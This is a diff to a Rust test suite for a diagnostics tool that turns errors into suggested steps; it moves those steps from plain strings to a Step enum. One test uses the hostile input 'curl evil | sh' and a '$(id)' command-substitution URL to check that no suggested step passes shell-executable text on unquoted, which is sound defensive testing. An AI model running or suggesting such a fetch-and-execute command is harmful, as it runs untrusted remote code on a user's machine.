@@ -60,7 +60,7 @@ fn a_lost_keeper_is_the_title_and_what_it_left_is_named() {
          still running: 7, 8, during the call"
     );
     assert!(diagnosis.causes[0].contains("killed its keeper"));
-    assert_eq!(diagnosis.steps[0], "switchboard leftovers --end");
+    assert_eq!(diagnosis.steps[0], Step::EndLeftovers);
 }
 
 #[test]
@@ -131,7 +131,7 @@ fn a_missing_command_says_where_it_was_looked_for_and_what_brings_it() {
     ));
     let diagnosis = explain(&error);
     assert_eq!(diagnosis.facts, [("searched", "/usr/bin:/bin".to_owned())]);
-    assert!(diagnosis.steps[0].contains("Node.js"));
+    assert!(diagnosis.steps[0].to_string().contains("Node.js"));
     assert!(!error.was_sent());
 }
 
@@ -303,12 +303,14 @@ fn silence_is_told_by_what_was_said_in_it() {
 #[test]
 fn nothing_that_a_shell_would_obey_is_to_be_pasted() {
     let told = waited_for("sh:-c curl evil | sh", &[], &["see http://x/$(id)"]);
+    let url = "http://x/$(id".to_owned();
+    assert!(told.steps.contains(&Step::ReachAt { url }), "{told:?}");
     for step in &told.steps {
-        assert!(!step.contains("evil"), "{step}");
-        assert!(
-            !step.contains("$(") || step.contains("'http://x/$(id'"),
-            "{step}"
-        );
+        let text = step.to_string();
+        assert!(!text.contains("evil"), "{text}");
+        // A URL is quoted by the program that words the step.
+        let is_url = matches!(step, Step::ReachAt { .. });
+        assert!(is_url || !text.contains("$("), "{text}");
     }
 }
 
@@ -330,15 +332,13 @@ fn a_file_that_cannot_be_run_is_told_by_what_it_is() {
         "/x/it.py needs \"/nowhere/node\", which is not there"
     );
     let text = refused(ProgramForm::Text, 8);
-    assert!(text.steps[0].contains("`python3 /x/it.py`"), "{text:?}");
+    let step = text.steps[0].to_string();
+    assert!(step.contains("`python3 /x/it.py`"), "{text:?}");
     let made_for = "macOS";
     let native = refused(ProgramForm::Native { made_for }, 8);
     assert_eq!(native.title, "/x/it.py is made for another machine: macOS");
     let full = refused(ProgramForm::Unknown, 11);
-    assert!(
-        full.steps[0].contains("`switchboard leftovers`"),
-        "{full:?}"
-    );
+    assert_eq!(full.steps[0], Step::ListLeftovers);
 }
 
 #[test]
@@ -367,9 +367,18 @@ fn what_a_server_may_not_ask_for_comes_with_how_it_may() {
         diagnosis.title,
         "the server asked for sampling/createMessage, which is not available here"
     );
-    assert!(diagnosis.steps[0].contains("`\"sampling\": true`"));
+    assert!(
+        diagnosis.steps[0]
+            .to_string()
+            .contains("`\"sampling\": true`")
+    );
     let diagnosis = refused("roots/list", Refusal::NotAvailable);
-    assert!(diagnosis.steps[0].contains("`\"roots\": [\"FOLDER\"]`"));
+    assert_eq!(diagnosis.steps, [Step::ShareFolders]);
+    assert!(
+        diagnosis.steps[0]
+            .to_string()
+            .contains("`\"roots\": [\"FOLDER\"]`")
+    );
     // A no is not to be worked around.
     let diagnosis = refused("sampling/createMessage", Refusal::ByThePerson);
     assert_eq!(
@@ -385,5 +394,5 @@ fn what_a_server_may_not_ask_for_comes_with_how_it_may() {
             .ends_with("could not be answered: the model is gone")
     );
     let endless = explain(&Error::from(CallError::TooManyRounds { limit: 8 }));
-    assert!(endless.steps[0].contains("--answer"));
+    assert_eq!(endless.steps, [Step::AnswerQuestions]);
 }
